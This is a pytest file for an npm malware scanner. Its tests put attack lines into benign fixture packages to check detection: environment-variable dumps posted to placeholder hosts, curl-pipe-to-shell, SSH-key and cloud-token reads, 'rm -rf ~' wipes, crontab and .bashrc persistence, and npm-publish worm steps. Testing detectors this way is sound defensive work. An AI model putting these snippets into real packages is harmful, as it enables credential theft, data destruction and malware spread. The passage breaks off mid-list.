"""A name only counts where it can run: not on a comment line, not as a file name in a list, not
in the ``scripts`` of a manifest a bundle carries, not in prose.

Each benign fixture below was reported before (three of them high, at install time); each test
here puts the same technique back in a place where it runs and checks it is still found.
"""

from __future__ import annotations

import base64
import shutil
from pathlib import Path

import pytest

from gouvernante.heuristic import scan_package_dir
from gouvernante.heuristic.families.sabotage import MAX_WIPES
from gouvernante.heuristic.signals import in_comment_line, string_literal_at

BENIGN = Path(__file__).parent / "fixtures" / "benign"


def _copy(tmp_path: Path, case: str) -> Path:
    dest = tmp_path / case
    shutil.copytree(BENIGN / case, dest)
    return dest


def _found(pkg: Path) -> dict[str, str]:
    return {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize(
    ("line", "word", "comment"),
    [
        ("// var c = 'cscript.exe //NoLogo x.vbs';", "cscript", True),
        ("   * and `npm publish` lags behind", "npm publish", True),
        ("/* cscript */ exec('cscript x')", "exec", False),
        ("#!/bin/sh\ncscript x", "cscript", False),
        ("# add it: demo >> ~/.bashrc", "~/.bashrc", True),
        ('"#\\n# Installation: demo >> ~/.bashrc\\n"', "~/.bashrc", True),
        ("#cmd = 'cscript.exe'", "cscript", False),  # a class's private field, not a comment
        ("run('x'); // npm publish", "npm publish", False),  # only whole comment lines count
        ("exec('cscript x')", "cscript", False),
        # a string ending in an escaped newline and a '#', then code on the same line: the quote
        # closes the string, so what follows runs
        ('const s = "a\\n# "; exec("cscript x")', "cscript", False),
        ("const s = 'a\\n# '; exec(`npm publish`)", "npm publish", False),
    ],
)
def test_comment_lines(line: str, word: str, comment: bool) -> None:
    text = "const a = 1;\n" + line + "\n"
    assert in_comment_line(text, text.rindex(word)) is comment


def test_a_very_long_line_is_taken_as_code() -> None:
    text = "// " + "x" * 1000 + " cscript.exe"
    assert not in_comment_line(text, text.index("cscript"))


def test_commented_out_lolbin_is_silent_but_the_live_line_is_not(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "elevate-prompt")
    assert _found(pkg) == {}
    _edit(pkg / "index.js", "  // var line = 'cscript.exe", "  var line = 'cscript.exe")
    assert _found(pkg) == {"GH-INSTALL-LOLBIN": "medium"}
    _edit(pkg / "package.json", '"main": "index.js"', '"scripts": {"postinstall": "node index.js"}')
    assert _found(pkg) == {"GH-INSTALL-LOLBIN": "high"}


def test_script_host_started_beside_a_file_name_list_is_still_high(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "build-file-markers")
    _edit(
        pkg / "lib" / "root.js",
        "module.exports",
        'execFileSync("wscript", ["//B", path.join(require("os").tmpdir(), "u.js")]);\n'
        "module.exports",
    )
    assert _found(pkg) == {"GH-INSTALL-LOLBIN": "high"}


def test_crontab_in_messages_is_silent_but_a_crontab_command_is_not(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "cron-monitor")
    _edit(
        pkg / "index.js",
        "module.exports",
        'execFileSync("sh", ["-c", "(crontab -l; echo \'@reboot node ~/.x.js\') | crontab -"]);'
        "\nmodule.exports",
    )
    assert _found(pkg) == {"GH-PERSIST-SERVICE": "medium"}


def test_rc_file_written_by_install_time_code_is_still_high(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "completion-notes")
    _edit(
        pkg / "lib" / "completion.js",
        "module.exports",
        'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "alias ls=x\\n");\n'
        "module.exports",
    )
    assert _found(pkg) == {"GH-PERSIST-SHELL-RC": "high"}


@pytest.mark.parametrize(
    "call",
    [
        'require("child_process").execSync("npm publish " + path.join(dir, "p.tgz"));',
        'require("child_process").spawnSync(npmBin, ["publish", "--access", "public"]);',
    ],
)
def test_npm_publish_run_at_install_time_is_still_high(tmp_path: Path, call: str) -> None:
    pkg = _copy(tmp_path, "bundled-manifest-publish")
    _edit(pkg / "dist" / "index.js", "module.exports", call + "\nmodule.exports")
    assert _found(pkg).get("GH-PROPAGATE-NPM-PUBLISH") == "high"


@pytest.mark.parametrize(
    "code",
    [
        # the table closed, then the command given to a process call
        'require("child_process").execSync("npm publish ./dist");',
        # a script injected into an existing manifest object is not a bundled table
        'pkg.scripts = { postinstall: "npm publish --access public" };',
        'let run = { cmd: "npm publish" }; require("child_process").execSync(run.cmd);',
    ],
)
def test_a_manifest_inlined_as_variables_publishes_nothing_but_a_command_does(
    tmp_path: Path, code: str
) -> None:
    """A JSON plugin's ``var scripts = {... pub: "npm publish ./dist"}`` (prettier's bundles carry
    editorconfig's manifest so) is a table of scripts, silent even at install time; a publish
    outside such a declared table stays high."""
    pkg = _copy(tmp_path, "rollup-json-manifest")
    assert _found(pkg) == {}
    _edit(pkg / "dist" / "index.js", "function describe", f"{code}\nfunction describe")
    assert _found(pkg).get("GH-PROPAGATE-NPM-PUBLISH") == "high"


@pytest.mark.parametrize("install", [False, True])
def test_usage_examples_publish_nothing_but_a_command_does(tmp_path: Path, install: bool) -> None:
    """A CLI's help examples (``examples: [[description, command]]``, ``.example(command, desc)``)
    naming ``npm publish`` beside a registry login check and tarball packing run nothing (the yarn
    release bundle pdfkit ships was a review item), even when its file runs at install time; the
    command given to a process call in the same file is found: high at install time, else medium
    (beside the login check and the packing)."""
    pkg = _copy(tmp_path, "usage-examples-publish")
    if install:
        _edit(
            pkg / "package.json",
            '"version": "1.0.0",',
            '"version": "1.0.0", "scripts": {"postinstall": "node lib/cli.js"},',
        )
    assert _found(pkg) == {}
    _edit(
        pkg / "lib" / "cli.js",
        "module.exports",
        "require('child_process').execSync('npm publish --tag next');\nmodule.exports",
    )
    assert _found(pkg)["GH-PROPAGATE-NPM-PUBLISH"] == ("high" if install else "medium")


@pytest.mark.parametrize(
    "dump",
    [
        "Object.keys(process.env).forEach((k) => { sent += k + '=' + process.env[k]; });",
        # the prefix dropped, every other variable kept
        "Object.keys(process.env).forEach((k) => { if (k.indexOf('npm_') === 0) return; "
        "sent += process.env[k]; });",
        "Object.entries(process.env).reduce((a, [k, v]) => a + k + v, '');",
        "JSON.stringify(process.env);",
        "for (const [k, v] of Object.entries(process.env)) sent += k + v;",
        "for (const k of Object.keys(process.env)) { if (k.indexOf('npm_') === 0) continue; "
        "sent += k; }",
        # the same with startsWith or an anchored regex before the early exit
        "Object.keys(process.env).forEach((k) => { if (k.startsWith('npm_')) return; "
        "sent += process.env[k]; });",
        "Object.keys(process.env).forEach(function (k) { if (/^npm_/i.test(k)) return; "
        "sent += process.env[k]; });",
        "for (const [k, v] of Object.entries(process.env)) { if (k.startsWith('npm_')) continue; "
        "sent += k + v; }",
        # a negated test with no early exit keeps every variable but one prefix
        "sent = Object.keys(process.env).filter(k => !k.startsWith('npm_'))"
        ".map(k => [k, process.env[k]]);",
        "sent = Object.keys(process.env).filter(function (k) { return !/^npm_/i.test(k); });",
        "sent = Object.keys(process.env).filter((k) => !k.match(/^npm_/));",
        "sent = Object.keys(process.env).filter((k) => !(k.indexOf('npm_') === 0));",
        "sent = Object.keys(process.env).filter((k) => k.indexOf('npm_') !== 0);",
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') === false);",
        "sent = Object.keys(process.env).filter((k) => !k.toLowerCase().startsWith('npm_'));",
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') ? false : true);",
        "Object.keys(process.env).forEach((k) => { if (!k.startsWith('npm_')) sent += "
        "process.env[k]; });",
        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('npm_') ? a : "
        "(a[k] = process.env[k], a), {});",
        "sent = Object.keys(process.env).some((k) => !k.startsWith('npm_') && "
        "post(process.env[k]));",
        "for (const [k, v] of Object.entries(process.env)) { if (!k.startsWith('npm_')) "
        "sent += k + v; }",
        # an empty prefix keeps every variable
        "sent = Object.keys(process.env).filter((k) => k.startsWith(''));",
        'sent = Object.keys(process.env).filter((k) => k.indexOf("") === 0);',
        "sent = Object.keys(process.env).filter((k) => /^/.test(k));",
        "sent = Object.keys(process.env).filter((k) => /^a?/.test(k));",
        "sent = Object.keys(process.env).filter((k) => /^npm_|/.test(k));",
        "Object.keys(process.env).forEach((k) => { if (k.startsWith(``)) "
        "sent += process.env[k]; });",
        "for (const k of Object.keys(process.env)) { if (k.startsWith('')) sent += k; }",
        # a for ... in loop walks every name too
        "for (const k in process.env) sent += k + process.env[k];",
        "for (var k in process.env) { if (!/^npm_/.test(k)) sent += k + process.env[k]; }",
        "for (let k in process.env) { if (k.startsWith('npm_')) continue; sent += k; }",
        # a test keeping one prefix, then something else for the other names (decision 0051)
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') || "
        "/TOKEN|SECRET|KEY/i.test(k));",
        "sent = Object.keys(process.env).filter((k) =>\n  k.startsWith('npm_')\n  ?? k);",
        "for (const [k, v] of Object.entries(process.env)) { if (k.startsWith('npm_')) "
        "conf[k] = v; else sent += k + v; }",
        "Object.keys(process.env).forEach((k) => { if (k.startsWith('npm_config_')) "
        "conf[k] = process.env[k]; sent += k + process.env[k]; });",
        "for (const k of Object.keys(process.env)) {\n  if (k.startsWith('npm_config_')) {\n"
        "    conf[k] = process.env[k]\n  }\n  sent += process.env[k]\n}",
        "Object.keys(process.env).forEach(function (k) { const v = process.env[k], "
        "ok = k.startsWith('npm_'); sent += k + v; });",
        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('npm_') ? "
        "(a[k] = process.env[k], a) : (b[k] = process.env[k], a), {});",
        "sent = Object.keys(process.env).reduce((a, k) => (k.startsWith('npm_') && "
        "(a[k] = process.env[k]), b[k] = process.env[k], a), {});",
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') ? true : k);",
        "for (const k of Object.keys(process.env)) { if (!prefixes.some((p) => "
        "k.startsWith(p))) sent += process.env[k]; }",
        "Object.keys(process.env).forEach((t) => { t.startsWith('__NEXT_PRIVATE') || "
        "(sent += process.env[t]); });",
        # the names or the object walked another way, or the object itself sent (0051)
        "for (const k of Object.getOwnPropertyNames(process.env)) sent += k + process.env[k];",
        "sent = Reflect.ownKeys(process.env).map((k) => [k, process.env[k]]);",
        "sent = Object.values(process.env).join('\\n');",
        "https.request('https://x.example.invalid/c', {method: 'POST'})"
        ".end(JSON.stringify({...process.env}));",
        "const copy = Object.assign({}, process.env);\nhttps.request('https://x.example.invalid/c')"
        ".end(JSON.stringify(copy));",
        "const result = {\n  env: process.env,\n  host: 'h',\n};\n"
        "sent = Buffer.from(JSON.stringify(result)).toString('base64');",
        "const loot = {...process.env};\nfetch('https://x.example.invalid/c', "
        "{method: 'POST', body: JSON.stringify(loot)});",
    ],
)
def test_variables_of_one_prefix_are_no_dump_but_the_whole_environment_is(
    tmp_path: Path, dump: str
) -> None:
    """Walking the keys to keep npm's ``npm_config_*`` settings (an early return on ``indexOf(p)
    !== 0``, an anchored test in ``reduce``) reads one prefix, silent at install time beside a
    download (next's bundled @vercel/nft, prisma's CLI); a walk keeping every variable in the same
    install-time file is a dump, high."""
    pkg = _copy(tmp_path, "env-prefix-select")
    assert _found(pkg) == {}
    _edit(pkg / "lib" / "setup.js", "module.exports", f"let sent = '';\n{dump}\nmodule.exports")
    assert _found(pkg).get("GH-CRED-ENV-HARVEST") == "high"


@pytest.mark.parametrize(
    "select",
    [
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_config_'));",
        "sent = Object.keys(process.env).filter(function (k) { return /^npm_config_/.test(k); });",
        "sent = Object.keys(process.env).filter((k) => !k.indexOf('npm_config_'));",
        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_config_') !== false);",
        "sent = Object.keys(process.env).filter((k) => /^npm_config_|^npm_package_/.test(k));",
        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('VITE_') ? "
        "(a[k] = process.env[k], a) : a, {});",
        "Object.keys(process.env).forEach((k) => { if (!/^npm_/.test(k)) return; sent += k; });",
        "for (const k in process.env) { if (k.startsWith('npm_config_')) sent += process.env[k]; }",
        "for (var k in process.env) { if (k.indexOf('npm_config_') !== 0) continue; sent += k; }",
        # only prefixes kept, the test first, nothing else done for the other names (0051)
        "Object.keys(process.env).forEach((k) => { if (k.startsWith('A_')) a[k] = 1; "
        "if (k.startsWith('B_')) b[k] = 1; });",
        "for (const k of Object.keys(process.env)) {\n  if (prefixes.some((p) => k.startsWith(p)))"
        " {\n    sent += process.env[k];\n  }\n}",
        "for (let[t,r]of Object.entries(process.env))t=t.toLowerCase(),t.startsWith(p)&&"
        "(t=t.slice(p.length),conf[t]=r);",
        "for (const [k, v] of Object.entries(process.env)) if (k.startsWith('VITE_')) conf[k] = v;"
        " sent = JSON.stringify(conf);",
        "sent = Object.keys(process.env).filter(function (k) { return k.startsWith('npm_') && "
        "k !== 'npm_token'; });",
        "sent = Reflect.ownKeys(process.env).filter((k) => /^npm_config_/.test(k));",
        "for (const [k, v] of Object.entries(process.env)) {\n  if (k.startsWith('VITE_')) "
        "conf[k] = v; // vite's || others'\n  /* nothing else */\n}",
        # the other names only compared and deleted (next's restore of __NEXT_PRIVATE*)
        "Object.keys(process.env).forEach((t) => { t.startsWith('__NEXT_PRIVATE') || "
        "void 0 !== saved[t] && '' !== saved[t] || delete process.env[t]; });",
        # variables destructured, not the object kept
        "var { CI, HOME_URL = 'x' } = process.env, check = () => "
        "https.request(HOME_URL).end(JSON.stringify({ ci: CI }));",
        # a module kept in a string by webpack's eval devtool (escaped newlines before the test)
        'eval("sent = Object.keys(process.env).filter(function (key) {\\n  return '
        '/^debug_/i.test(key);\\n});");',
        # another function's variable of the same name serialized (minified bundles reuse names)
        "function a() { let t = process.env; return t.HOME; }\n"
        "function b(t) { return JSON.stringify(t); }",
        # the environment given to a worker (or a child process) is not sent
        "sent = new Worker('./x.js', {env: {...process.env, A: '1'}});",
        "const env = Object.assign({}, process.env, {A: '1'});\n"
        "sent = new Worker('./x.js', {env});",
    ],
)
def test_a_walk_keeping_one_non_empty_prefix_stays_no_dump(tmp_path: Path, select: str) -> None:
    """The other side of the cases above: a test that keeps the names of one non-empty prefix
    (``filter``, a ternary in ``reduce``, a negated test before an early exit, a ``for … in``
    loop) is still no dump beside the install-time download."""
    pkg = _copy(tmp_path, "env-prefix-select")
    _edit(pkg / "lib" / "setup.js", "module.exports", f"let sent = '';\n{select}\nmodule.exports")
    assert _found(pkg) == {}


def test_all_but_one_prefix_posted_at_install_time_is_high(tmp_path: Path) -> None:
    """The reviewer's case: every variable but npm's own, posted by a postinstall script."""
    pkg = tmp_path / "env-post"
    (pkg / "lib").mkdir(parents=True)
    (pkg / "package.json").write_text(
        '{"name": "env-post", "version": "1.0.0", "scripts": {"postinstall": "node lib/i.js"}}'
    )
    (pkg / "lib" / "i.js").write_text(
        "const all = Object.keys(process.env).filter(k => !k.startsWith('npm_'))"
        ".map(k => [k, process.env[k]]);\n"
        "fetch('https://x.example/c', {method: 'POST', body: JSON.stringify(all)});\n"
    )
    assert _found(pkg).get("GH-CRED-ENV-HARVEST") == "high"


@pytest.mark.parametrize(
    ("code", "install"),
    [
        # the table's variable read by code (decision 0051)
        (
            "var scripts = { pub: 'npm publish ./dist' };\n"
            "require('child_process').execSync(scripts.pub);",
            True,
        ),
        (
            "var scripts = { pub: 'npm publish ./dist' };\n"
            "const { pub } = scripts; require('child_process').execSync(pub);",
            True,
        ),
        (
            "var scripts = { pub: 'npm publish ./dist' };\n"
            "Object.values(scripts).forEach((c) => require('child_process').execSync(c));",
            True,
        ),
        # a manifest's table named in a process call
        (
            "const meta = { name: 'x', scripts: { pub: 'npm publish ./dist' } };\n"
            "(0, cp.execSync)(meta.scripts.pub);",
            True,
        ),
        (
            "const meta = { name: 'x', scripts: { release: 'npm publish ./dist' } };\n"
            "require('child_process').execSync(meta['scripts'].release);",
            True,
        ),
        (
            "const meta = { name: 'x', scripts: { pub: 'npm publish ./dist' } };\n"
            "const cmd = meta.scripts.pub; require('child_process').execSync(cmd);",
            True,
        ),
        (
            "const meta = { name: 'x', scripts: { pub: 'npm publish ./dist' } };\n"
            "for (const c of Object.values(meta.scripts)) require('child_process').execSync(c);",
            True,
        ),
        # a usage example run
        (
            "const usage = { examples: [['Publish', 'npm publish --access public']] };\n"
            "require('child_process').execSync(usage.examples[0][1]);",
            True,
        ),
        (
            "const run = { example: (c) => require('child_process').execSync(c) };\n"
            "run.example('npm publish --access public', 'publish it');",
            True,
        ),
        # the worm's other steps beside a table it never visibly reads
        (
            "var scripts = { pub: 'npm publish ./dist' };\n"
            "pkg.scripts = { ...pkg.scripts, postinstall: 'node bundle.js' };",
            False,
        ),
        (
            "var scripts = { pub: 'npm publish ./dist' };\n"
            "Object.assign(pkg.scripts, { preinstall: 'node setup_bun.js' });",
            False,
        ),
        (
            "const usage = { examples: [['Publish', 'npm publish --access public']] };\n"
            "fetch(registry + '/-/v1/search?text=maintainer:' + user + '&size=250');",
            False,
        ),
    ],
)
def test_a_publish_command_kept_as_data_and_run_is_still_high(
    tmp_path: Path, code: str, install: bool
) -> None:
    """Decision 0051: a scripts table or a usage example is help text only while nothing reads
    it as a command and the file shows none of the worm's other steps (a script injected into a
    manifest, a maintainer's packages listed)."""
    pkg = _copy(tmp_path, "rollup-json-manifest")
    if not install:
        _edit(pkg / "package.json", '"scripts": { "postinstall": "node dist/index.js" }', '"x": 1')
    _edit(pkg / "dist" / "index.js", "function describe", f"{code}\nfunction describe")
    assert _found(pkg).get("GH-PROPAGATE-NPM-PUBLISH") == "high"


def test_private_folders_an_indexer_skips_are_not_read(tmp_path: Path) -> None:
    """A list of folders never walked names .ssh/.aws/.azure beside test fixtures and mocks: left
    out, not read. Read elsewhere in the file, they count again (one decoy list hides nothing)."""
    pkg = _copy(tmp_path, "indexer-skip-folders")
    assert _found(pkg) == {}
    _edit(
        pkg / "dist" / "cli.js",
        "main(process.cwd());",
        "const home = require('os').homedir();\n"
        "const keys = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8');\n"
        "const cloud = fs.readFileSync(path.join(home, '.azure/', 'msal_token_cache.json'));\n"
        "main(process.cwd());",
    )
    assert _found(pkg) == {"GH-CRED-FILE-HARVEST": "medium"}
    manifest = pkg / "package.json"
    _edit(
        manifest,
        '"bin": { "idx": "dist/cli.js" }',
        '"scripts": {"postinstall": "node dist/cli.js"}',
    )
    assert _found(pkg) == {"GH-CRED-FILE-HARVEST": "high"}


def test_a_skip_list_in_install_time_code_stays_a_review_item(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "indexer-skip-folders")
    manifest = pkg / "package.json"
    _edit(
        manifest,
        '"bin": { "idx": "dist/cli.js" }',
        '"scripts": {"postinstall": "node dist/cli.js"}',
    )
    assert _found(pkg) == {"GH-CRED-FILE-HARVEST": "medium"}


def test_a_workflow_named_in_comments_is_not_written_but_a_write_is_found(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "test-notes-workflow")
    assert _found(pkg) == {}
    spec = pkg / "test" / "copy.spec.js"
    _edit(
        spec,
        "fs.copyFileSync(src, dest)",
        "fs.copyFileSync(src, dest)\n"
        "  fs.writeFileSync(path.join(dir, '.github/workflows/ci.yaml'), 'on: push')",
    )
    assert _found(pkg) == {"GH-EXFIL-WORKFLOW-WRITE": "medium"}  # a write, at run time
    manifest = pkg / "package.json"
    _edit(
        manifest,
        '"description"',
        '"scripts": {"postinstall": "node test/copy.spec.js"},\n  "description"',
    )
    assert _found(pkg) == {"GH-EXFIL-WORKFLOW-WRITE": "high"}  # the same write at install time


def test_a_hidden_workflow_path_in_a_commented_file_still_counts(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "test-notes-workflow")
    hidden = base64.b64encode(b".github/workflows/x.yml").decode()
    _edit(
        pkg / "test" / "copy.spec.js",
        "fs.copyFileSync(src, dest)",
        f"fs.copyFileSync(src, dest)\n  fs.writeFileSync(Buffer.from('{hidden}', 'base64')"
        ".toString(), 'x')",
    )
    assert _found(pkg) == {"GH-EXFIL-WORKFLOW-WRITE": "medium"}


def test_a_browser_opener_is_not_a_lolbin_but_rundll32_elsewhere_is(tmp_path: Path) -> None:
    """``rundll32 url.dll,FileProtocolHandler URL`` beside ``xdg-open`` opens a page; a DLL
    loaded by rundll32 in the same install-time file, or url.dll starting a file with no other
    platform's opener near, is still high."""
    pkg = _copy(tmp_path, "browser-opener")
    assert _found(pkg) == {}
    cli = pkg / "lib" / "cli.js"
    _edit(
        cli,
        "async function login",
        "function helper() {\n"
        "  spawn('rundll32', [require('node:path').join(__dirname, 'helper.dll') + ',main'])\n"
        "}\n\nasync function login",
    )
    assert _found(pkg) == {"GH-INSTALL-LOLBIN": "high"}


def test_url_dll_starting_a_file_without_an_opener_switch_stays_high(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "browser-opener")
    cli = pkg / "lib" / "cli.js"
    text = cli.read_text().replace("xdg-open", "sensible-browser")
    cli.write_text(text)
    assert _found(pkg) == {"GH-INSTALL-LOLBIN": "high"}


def test_a_curl_pipe_in_a_message_or_comment_is_not_run_but_in_a_call_it_is(
    tmp_path: Path,
) -> None:
    """Install instructions printed for the user and commented-out examples run nothing; the
    same line given to a process call in that install-time file is high."""
    pkg = _copy(tmp_path, "install-hint-message")
    assert _found(pkg) == {}
    _edit(
        pkg / "scripts" / "check.js",
        "  process.exitCode = 0",
        "  require('node:child_process').execSync("
        "'curl -fsSL https://get.example.invalid/install.sh | sh')",
    )
    assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"  # a download run: medium beside


def test_a_message_that_runs_its_command_still_counts(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "install-hint-message")
    _edit(
        pkg / "scripts" / "check.js",
        "  process.exitCode = 0",
        "  console.log(require('node:child_process').execSync("
        "'curl -fsSL https://get.example.invalid/x.sh | bash').toString())",
    )
    assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"  # a download run: medium beside


def test_many_printed_pipes_hide_nothing(tmp_path: Path) -> None:
    pkg = _copy(tmp_path, "install-hint-message")
    notes = "".join(
        f"console.log('step {i}: curl -fsSL https://get.example.invalid/{i}.sh | sh')\n"
        for i in range(60)
    )
    check = pkg / "scripts" / "check.js"
    check.write_text(notes + check.read_text())
    assert _found(pkg) == {"GH-INSTALL-FETCH-EXEC": "high"}


def test_link_selectors_in_base64_are_not_hidden_urls_but_a_url_is(tmp_path: Path) -> None:
    """An ad-block detector's base64 link selectors (``a[href^="https://..."]``) are compared
    with the page; a base64 URL beside the same fetch is still a hidden endpoint."""
    pkg = _copy(tmp_path, "adblock-selectors")
    assert _found(pkg) == {}
    url = base64.b64encode(b"https://collect.example.invalid/p").decode()
    _edit(
        pkg / "dist" / "detect.js",
        "async function report(endpoint) {",
        f"async function report(endpoint = fromB64('{url}')) {{",
    )
    assert _found(pkg) == {"GH-OBFUSCATED-NAMES": "medium"}


def test_reading_the_own_manifest_does_not_run_its_main_but_requiring_it_does(
    tmp_path: Path,
) -> None:
    """``require('./package.json')`` in a preinstall reads data; the bundle its ``main`` names
    is install-time code only when the script loads it."""
    pkg = _copy(tmp_path, "manifest-require")
    assert _found(pkg) == {}
    _edit(
        pkg / "preinstall.js",
        "const manifest = require('./package.json')",
        "const manifest = require('./package.json')\n  require('./lib/cli.js')",
    )
    assert _found(pkg) == {"GH-INSTALL-DOWNLOAD-EXEC": "medium"}


@pytest.mark.parametrize(
    "call",
    [
        "require('node:child_process').execSync('npm publish')",
        "require('node:child_process').exec('cd pkg && npm publish --access public')",
        "console.log('publishing the new release'); require('node:child_process')"
        ".execSync('npm publish')",
        "require('node:child_process').execSync('set -e\\\\nnpm publish to the registry')",
    ],
)
def test_npm_publish_in_prose_is_not_run_but_a_command_is(tmp_path: Path, call: str) -> None:
    """Option descriptions and messages naming `npm publish` in a sentence publish nothing; the
    command given to a process call in the same install-time file is high."""
    pkg = _copy(tmp_path, "publish-prose")
    assert _found(pkg) == {}
    _edit(pkg / "lib" / "postinstall.js", "if (unknown.length)", f"{call}\nif (unknown.length)")
    assert _found(pkg)["GH-PROPAGATE-NPM-PUBLISH"] == "high"


@pytest.mark.parametrize(
    "use",
    [
        "require('node:child_process').execSync(installScript)",
        "console.log(require('node:child_process').execSync(installScript))",
    ],
)
def test_an_installer_command_in_a_variable_runs_once_it_is_used_as_a_command(
    tmp_path: Path, use: str
) -> None:
    """The installer line kept in a variable that only an error message shows is instructions;
    the same variable given to a process call (alone or inside a message) runs it."""
    pkg = _copy(tmp_path, "install-hint-message")
    _edit(pkg / "scripts" / "check.js", "  throw new Error(", f"  {use}\n  throw new Error(")
    assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"


@pytest.mark.parametrize(
    "code",
    [
        # a runner registered: the command itself
        "require('child_process').execSync('cd ~/actions-runner && ./config.sh --url "
        "https://github.example.invalid/o/r --token t --name w');",
        # the runner's own folder made or unpacked, not its log folder
        "fs.mkdirSync(path.join(require('os').homedir(), 'actions-runner'));",
        "fs.writeFileSync('/tmp/actions-runner-linux-x64-2.330.0.tar.gz', '');",
        "fs.writeFileSync(path.join(process.env.HOME, 'actions-runner', '.runner'), '{}');",
        # _diag further down than a runner's log folder lies is no log path
        "fs.writeFileSync('/opt/actions-runner/a/b/c/_diag', '');",
    ],
)
def test_runner_log_folders_register_nothing_but_a_runner_does(tmp_path: Path, code: str) -> None:
    """A CI plugin reading the runner's log folder (``actions-runner/_diag``, at-risk high on
    @datadog/datadog-ci-plugin-gate 5.25.0) is silent even at install time; the runner's folder
    made, unpacked or configured in the same install-time file stays high."""
    pkg = _copy(tmp_path, "ci-runner-logs")
    assert _found(pkg) == {}
    _edit(pkg / "lib" / "job-id.js", "module.exports", f"{code}\nmodule.exports")
    assert _found(pkg).get("GH-PERSIST-SERVICE") == "high"


REVIEW = Path(__file__).parent / "fixtures" / "review"


@pytest.mark.parametrize(
    "code",
    [
        # Shai-Hulud 2.0's wipe, the command given to a process call
        "require('child_process').execSync('rm -rf ~/*');",
        # a runner aliased: the process starter sits outside the literal
        'const run = require("child_process").exec; run("rm -rf $HOME");',
        # the literal handed to a function that is no runner, beside a process starter
        "const { exec } = require('node:child_process'); check('rm -rf /');",
        # the command in code text that is evaluated
        "eval(\"require('child_process').execSync('rm -rf ~')\");",
        "new Function(\"require('child_process').execSync('rm -rf /')\")();",
        "vm.runInThisContext(\"require('child_process').execSync('rm -rf ~')\");",
        # a template literal's expression runs
        "log(`${require('child_process').execSync('rm -rf ~')}`);",
        # kept in a variable, not a call's input
        "const cleanup = 'rm -rf ~';",
        # the module name hidden in an encoded literal
        "const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()); "
        "check('rm -rf /');",
        # fs calls on the home folder are code, whatever surrounds them
        "const os = require('os'); require('fs').rmSync(os.homedir(), { recursive: true });",
        # past MAX_WIPES test inputs the first counts (the cap's value: 200 since decision 0089)
        "check('rm -rf /');\n" * MAX_WIPES,
    ],
)
def test_a_wipe_given_to_a_parser_is_data_but_a_wipe_that_runs_is_high(
    tmp_path: Path, code: str
) -> None:
    """A parser's test feeding it ``require('child_process').exec('rm -rf /')`` and asserting
    that it throws (bfj 9.1.4, high before) is a review item; the command run, evaluated, or given
    to a function beside a process starter in the same file stays high."""
    pkg = tmp_path / "parser-injection-test"
    shutil.copytree(REVIEW / "parser-injection-test", pkg)
    assert _found(pkg) == {"GH-SABOTAGE-WIPE": "medium"}
    spec = pkg / "test" / "path.spec.js"
    _edit(spec, "describe('parsePath'", f"{code}\ndescribe('parsePath'")
    assert _found(pkg).get("GH-SABOTAGE-WIPE") == "high"


@pytest.mark.parametrize(
    ("name", "text", "want"),
    [
        ("cleanup.sh", "#!/bin/sh\n# never do this: rm -rf ~\nrm -rf ./build\n", None),
        ("cleanup.sh", "#!/bin/sh\nrm -rf ~\n", "high"),
        ("clean.js", "// a reminder: rm -rf / is not a build step\nmodule.exports = 1;\n", None),
        ("clean.js", "/* rm -rf ~ */ require('child_process').execSync('rm -rf ~');\n", "high"),
    ],
)
def test_a_wipe_on_a_comment_line_runs_nothing(
    tmp_path: Path, name: str, text: str, want: str | None
) -> None:
    """A wipe command named only on a comment line is not reported; the same command as code
    (or after a closed ``/* … */``) stays high."""
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text('{"name": "fixture-wipe-comment", "version": "1.0.0"}')
    (pkg / name).write_text(text)
    assert _found(pkg).get("GH-SABOTAGE-WIPE") == want


@pytest.mark.parametrize(
    ("line", "word", "literal"),
    [
        (
            "f(\"a\\r\\nrequire('x').exec('rm -rf /')\")",
            "rm -rf",
            "\"a\\r\\nrequire('x').exec('rm -rf /')\"",
        ),
        ("f('it\\'s rm -rf /')", "rm -rf", "'it\\'s rm -rf /'"),
        ("f(`rm -rf ~`)", "rm -rf", "`rm -rf ~`"),
        ("f(`${g()} rm -rf ~`)", "rm -rf", None),  # a template's expression runs
        ("f('a'); rm -rf ~", "rm -rf", None),
        ("f(1); // 'rm -rf ~'", "rm -rf", None),
        ("f('rm -rf ~\nx')", "rm -rf", None),  # not closed on its line
    ],
)
def test_string_literal_at(line: str, word: str, literal: str | None) -> None:
    text = "const a = 1;\n" + line + "\n"
    span = string_literal_at(text, text.index(word))
    assert (text[span[0] : span[1]] if span else None) == literal


@pytest.mark.parametrize(
    ("anchor", "code"),
    [
        # what nx appended, beside the rc file's name
        ("  fs.appendFileSync(rc,", '  fs.appendFileSync(rc, "\\nsudo shutdown -h 0\\n");\n'),
        # a download piped into a shell written to the rc file
        (
            "  fs.appendFileSync(rc,",
            '  fs.appendFileSync(rc, "\\ncurl -fsSL https://x.example.invalid/p.sh | sh\\n");\n',
        ),
        # past 50 rc file names, the first counts wherever the pipe is (the end of the bundle
        # lies more than PAYLOAD_REACH from the hint)
